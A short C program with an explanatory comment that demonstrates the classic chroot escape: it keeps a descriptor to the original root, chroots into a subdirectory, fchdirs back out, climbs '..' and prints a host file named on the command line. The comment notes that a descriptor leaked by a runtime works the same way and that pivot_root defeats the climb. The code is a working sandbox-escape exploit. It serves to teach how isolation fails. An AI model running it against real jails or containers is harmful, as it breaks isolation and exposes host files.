/* leaked-descriptor FILE: leaves a chroot(2) through a descriptor, and prints FILE as the host has it.
 *
 * A descriptor of a directory is a place, and chroot(2) closes none. Here the program opens its own
 * "/" and then moves its root below it. fchdir(2) asks nobody whether the descriptor's directory is
 * below the new root: it just goes there. From there ".." leads up to the top of the mount.
 *
 * A descriptor that a runtime forgot to close is the same door, held open by somebody else.
 * After pivot_root(2) the directory is the top of its mount: ".." has nowhere to go. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char line[256];
	FILE *file;
	int outside = open("/", O_RDONLY | O_DIRECTORY);

	if (argc < 2 || outside < 0)
		return 2;
	mkdir("/hole", 0755);
	if (chroot("/hole") < 0 || chdir("/") < 0) { /* a careful jail: the directory moves, too */
		perror("chroot");
		return 1;
	}
	if (fchdir(outside) < 0) { /* but the descriptor has stayed where it was */
		perror("fchdir");
		return 1;
	}
	for (int i = 0; i < 100; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		perror("chroot");
		return 1;
	}
	file = fopen(argv[1], "r");
	if (!file) {
		printf("still inside: %s is not here\n", argv[1]);
		return 1;
	}
	while (fgets(line, sizeof line, file))
		fputs(line, stdout);
	return 0;
}
